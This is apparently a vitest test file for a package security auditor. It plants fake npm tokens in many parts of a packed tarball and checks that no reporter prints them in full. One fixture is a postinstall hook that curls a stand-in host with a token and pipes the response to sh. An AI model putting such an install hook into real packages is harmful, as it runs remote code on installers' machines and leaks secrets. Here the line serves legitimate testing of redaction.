import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { beforeAll, describe, expect, test } from 'vitest'
import { audit } from '../../src/engine/audit.ts'
import type { Report } from '../../src/model/report.ts'
import { formatBaseline } from '../../src/policy/baseline.ts'
import { render, reporters } from '../../src/reporters/index.ts'
import { fake } from '../support/fake.ts'
import { pack } from '../support/pack.ts'
import { temporaryDirectory } from '../support/project.ts'

/** One token of its own for each place, so that a failure says which place leaks. */
const planted: Record<string, string> = {}
function token(place: string): string {
  planted[place] ??= fake('npm_{alnum:30}{crc32-base62:6}', Object.keys(planted).length + 1)
  return planted[place]
}

function files() {
  const map = {
    version: 3,
    file: `${token('the file key of a map')}.js`,
    sourceRoot: '',
    sources: [`../src/${token('a source name')}.ts`, `https://maps.example/${token('a source URL')}/src.zip`],
    sourcesContent: [`let a = "${token('a source')}"`, null],
    names: [token('the names of a map')],
    mappings: 'AAAA',
    [token('a key of a map')]: 1,
  }
  const base64 = Buffer.from(`token=${token('base64')}`).toString('base64')
  return {
    'package.json': {
      name: 'p',
      version: `1.0.0-${token('a version')}`,
      license: `SEE ${token('a license')}`,
      repository: `https://x:${token('a repository URL')}@git.example/p.git`,
      scripts: { postinstall: `curl https://host.example/?t=${token('an install script')} | sh` },
      [token('a JSON key')]: true,
    },
    [`dist/${token('a file name')}.js`]: '1',
    [`${token('a folder name')}/index.js`]: '1',
    'dist/app.js': `x("${token('code')}", "${base64}")\n//# sourceMappingURL=https://cdn.example/${token('a map URL')}.map\n`,
    'dist/app.js.map': map,
    'dist/.env': `NPM_TOKEN=${token('an environment file')}\nURL=https://u:${token('a URL')}@host.internal/x\n`,
    'vendor.tgz': pack({
      [`${token('a name in an archive')}.txt`]: 'x',
      'broken.tgz': Buffer.from([0x1f, 0x8b, 8, 0, 1]),
    }),
    [`${token('the name of a broken file')}.tgz`]: pack({ a: 'b' }).subarray(0, 40),
    'dist/utf16.txt': Buffer.from(`\ufefftoken = ${token('UTF-16')}`, 'utf16le'),
  }
}

let report: Report
beforeAll(async () => {
  const cwd = temporaryDirectory()
  writeFileSync(join(cwd, 'p.tgz'), pack(files()))
  report = await audit('p.tgz', { cwd })
})

describe('no secret is printed in full', () => {
  test('every planted secret is found, so that there is something to hide', () => {
    expect(report.findings.filter(({ ruleId }) => ruleId === 'secret/npm-access-token').length).toBeGreaterThan(12)
    expect(Object.keys(planted).length).toBeGreaterThan(15)
  })

  test.each([...reporters.map(({ id }) => id), 'baseline'])('by %s', (id) => {
    const text = id === 'baseline' ? formatBaseline(report.findings) : render(report, id)
    expect(text.length).toBeGreaterThan(20)
    expect(
      Object.entries(planted)
        .filter(([, secret]) => text.includes(secret))
        .map(([place]) => place),
    ).toEqual([])
    const halves = Object.entries(planted).filter(([, secret]) => text.includes(secret.slice(4, 24)))
    expect(halves.map(([place]) => place)).toEqual([])
  })
})
